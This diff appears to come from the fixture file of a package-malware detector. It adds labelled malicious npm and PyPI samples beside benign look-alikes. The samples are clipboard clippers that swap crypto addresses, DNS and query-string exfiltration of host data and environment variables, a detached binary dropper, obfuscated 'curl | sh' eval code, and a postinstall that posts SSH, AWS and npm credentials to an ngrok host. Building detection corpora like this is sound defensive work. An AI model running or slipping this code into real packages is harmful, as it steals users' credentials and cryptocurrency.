@@ -232,6 +232,23 @@ MALICIOUS_PYPI = {
             "def test_callback():\n"
             f"    subprocess.run(['curl', '-fsSL', '{HOOK}/poc?u=$(whoami)&h=$(hostname)&p=$(pwd)'])\n"),
     },
+    # Clipboard clipper: swaps a copied cryptocurrency address for the attacker's.
+    "clipboard_clipper_py": {
+        "pkg/__init__.py": "from . import _sync\n",
+        "pkg/_sync.py": (
+            "import re, threading, time, pyperclip\n"
+            "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
+            "ETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\n\n"
+            "def _watch():\n"
+            "    while True:\n"
+            "        t = pyperclip.paste().strip()\n"
+            "        if BTC.match(t):\n"
+            "            pyperclip.copy('bc1qattackerattackerattackerattacker0')\n"
+            "        elif ETH.match(t):\n"
+            "            pyperclip.copy('0x' + '1' * 40)\n"
+            "        time.sleep(0.5)\n\n"
+            "threading.Thread(target=_watch, daemon=True).start()\n"),
+    },
 }
 
 # ----------------------------------------------------------------------------- benign neighbours
@@ -357,6 +374,12 @@ BENIGN_PYPI = {
             "        record.host = socket.gethostname()\n"
             "        return True\n"),
     },
+    # Pastes the clipboard into a form field (an automation helper); no addresses involved.
+    "paste_helper": {
+        "pkg/forms.py": ("import pyperclip\n\n"
+                         "def paste_into(field):\n"
+                         "    field.send_keys(pyperclip.paste())\n"),
+    },
 }
 
 # ----------------------------------------------------------------------------- npm incidents
@@ -454,6 +477,63 @@ MALICIOUS_NPM = {
             f"h.get('{HOOK}/k',r=>{{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(Buffer.from(d,'base64').toString()));}});\n"
             "module.exports=()=>{};\n"),
     },
+    # Dependency-confusion probe: an internal-looking name at a huge version whose preinstall sends
+    # the host's identity out as a DNS query.
+    "dns_confusion_preinstall": {
+        "package.json": pkg_json("acme-internal-config", {"preinstall": "node index.js"}, version="99.10.0"),
+        "index.js": (
+            "const os=require('os'),dns=require('dns');\n"
+            "const id=Buffer.from([os.hostname(),os.userInfo().username,process.cwd()].join('|')).toString('hex');\n"
+            "for (const part of id.match(/.{1,60}/g)) dns.lookup(`${part}.x.collector-dns.example.net`, ()=>{});\n"),
+    },
+    # The environment, base64'd into the query string of a GET from the install script.
+    "env_in_query_postinstall": {
+        "package.json": pkg_json("lodash-utils-plus", {"postinstall": "node post.js"}),
+        "post.js": (
+            "const https=require('https');\n"
+            "const d=Buffer.from(JSON.stringify(process.env)).toString('base64');\n"
+            f"https.get('{HOOK}/c?d='+encodeURIComponent(d));\n"),
+    },
+    # The install script re-launches itself detached and silent, then fetches a binary to the temp
+    # folder and runs it.
+    "detached_dropper_postinstall": {
+        "package.json": pkg_json("node-pretty-logs", {"postinstall": "node install.js"}),
+        "install.js": (
+            "const {spawn,execFile}=require('child_process'),fs=require('fs'),os=require('os'),path=require('path'),https=require('https');\n"
+            "if (!process.argv.includes('--child')) {\n"
+            "  spawn(process.execPath,[__filename,'--child'],{detached:true,stdio:'ignore'}).unref(); process.exit(0);\n}\n"
+            "const out=path.join(os.tmpdir(),'.node-cache-'+Date.now());\n"
+            f"https.get('{HOOK}/bin/'+os.platform(),r=>{{r.pipe(fs.createWriteStream(out)).on('finish',()=>{{\n"
+            "  fs.chmodSync(out,0o755); execFile(out);}});});\n"),
+    },
+    # obfuscator.io-style string table whose decoded entries call eval at import.
+    "string_table_eval": {
+        "package.json": pkg_json("color-string-fmt"),
+        "index.js": (
+            "var _0x3a1f=['ZXZhbA==','cmVxdWlyZQ==','Y2hpbGRfcHJvY2Vzcw==','ZXhlY1N5bmM='];\n"
+            "function _0x2b(i){return Buffer.from(_0x3a1f[i],'base64').toString();}\n"
+            "global[_0x2b(0x0)](_0x2b(0x1)+\"('\"+_0x2b(0x2)+\"').\"+_0x2b(0x3)+\"('curl -s http://203.0.113.7/k|sh')\");\n"
+            "module.exports=function(c){return c;};\n"),
+    },
+    # Node clipboard clipper: polls the clipboard and swaps cryptocurrency addresses.
+    "clipboard_clipper": {
+        "package.json": pkg_json("crypto-price-ticker"),
+        "index.js": (
+            "const clipboardy=require('clipboardy');\n"
+            "const btc=/^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$/, eth=/^0x[a-fA-F0-9]{40}$/;\n"
+            "setInterval(()=>{const t=clipboardy.readSync().trim();\n"
+            "  if(btc.test(t)) clipboardy.writeSync('bc1qattackerattackerattackerattacker0');\n"
+            "  else if(eth.test(t)) clipboardy.writeSync('0x1111111111111111111111111111111111111111');},500);\n"),
+    },
+    # Install script harvesting SSH and cloud credentials to a tunnel host.
+    "creds_to_tunnel_postinstall": {
+        "package.json": pkg_json("eslint-config-prettier-x", {"postinstall": "node setup.js"}),
+        "setup.js": (
+            "const fs=require('fs'),os=require('os'),path=require('path');\n"
+            "const files=['.ssh/id_rsa','.aws/credentials','.npmrc'].map(f=>path.join(os.homedir(),f));\n"
+            "const body={};for(const f of files){try{body[f]=fs.readFileSync(f,'utf8')}catch(e){}}\n"
+            "fetch('https://d3adb33f.ngrok-free.app/u',{method:'POST',body:JSON.stringify(body)});\n"),
+    },
 }
 
 BENIGN_NPM = {
@@ -491,6 +571,30 @@ BENIGN_NPM = {
     "native_build": {
         "package.json": pkg_json("fast-hash-native", {"install": "node-gyp rebuild"}),
         "index.js": "module.exports = require('./build/Release/hash.node');\n",
+    },
+    # A DNS helper resolving the host a caller passes.
+    "dns_helper": {
+        "package.json": pkg_json("dns-cache-lite"),
+        "index.js": ("const dns=require('dns');\nconst cache=new Map();\n"
+                     "module.exports=(host,cb)=>cache.has(host)?cb(null,cache.get(host)):"
+                     "dns.lookup(host,(e,a)=>{if(!e)cache.set(host,a);cb(e,a);});\n"),
+    },
+    # A process manager starting a detached worker (not at install).
+    "process_manager": {
+        "package.json": pkg_json("tiny-pm", bin={"tiny-pm": "cli.js"}),
+        "cli.js": ("const {spawn}=require('child_process');\n"
+                   "module.exports.start=(script,args)=>spawn(process.execPath,[script,...args],"
+                   "{detached:true,stdio:'ignore'}).unref();\n"),
+    },
+    # A clipboard CLI copying text the user passes.
+    "clipboard_cli": {
+        "package.json": pkg_json("copy-cli", bin={"copy": "cli.js"}),
+        "cli.js": "const clipboardy=require('clipboardy');\nclipboardy.writeSync(process.argv.slice(2).join(' '));\n",
+    },
+    # A postinstall printing a thank-you note with the platform it runs on.
+    "postinstall_banner": {
+        "package.json": pkg_json("fancy-table", {"postinstall": "node banner.js"}),
+        "banner.js": "const os=require('os');\nconsole.log(`fancy-table installed on ${os.platform()} (${os.arch()})`);\n",
     },
 }
 
